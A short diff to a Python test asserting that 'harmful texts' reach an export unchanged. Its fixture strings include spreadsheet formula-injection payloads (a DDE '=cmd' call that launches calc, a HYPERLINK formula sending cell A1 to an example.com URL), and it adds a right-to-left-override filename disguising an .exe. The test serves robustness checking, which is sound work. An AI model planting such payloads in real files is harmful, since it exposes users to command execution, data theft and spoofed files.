@@ -577,7 +577,8 @@ def test_harmful_texts_arrive_as_they_are():
     assert {"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1\t@SUM(A1:A9)", "-1+1",
             "+identity team", '=HYPERLINK("http://example.com/?x="&A1,"pay here")',
             "\t=1+1\nsecond line", "n\u00e4me\ufffd \ufffd(\ufffd", "a\ufffdb\ufffdc\ufffdd",
-            '<b>&amp;"quoted"</b> _x0041_ \U0001f680\u00e9'} <= texts
+            '<b>&amp;"quoted"</b> _x0041_ \U0001f680\u00e9',
+            "\u200fx\u200e\u202efdp.exe\u202c"} <= texts
     assert any(text_.endswith("w\u2026 [cut]") and len(text_) == 32767 for text_ in texts)
 
 
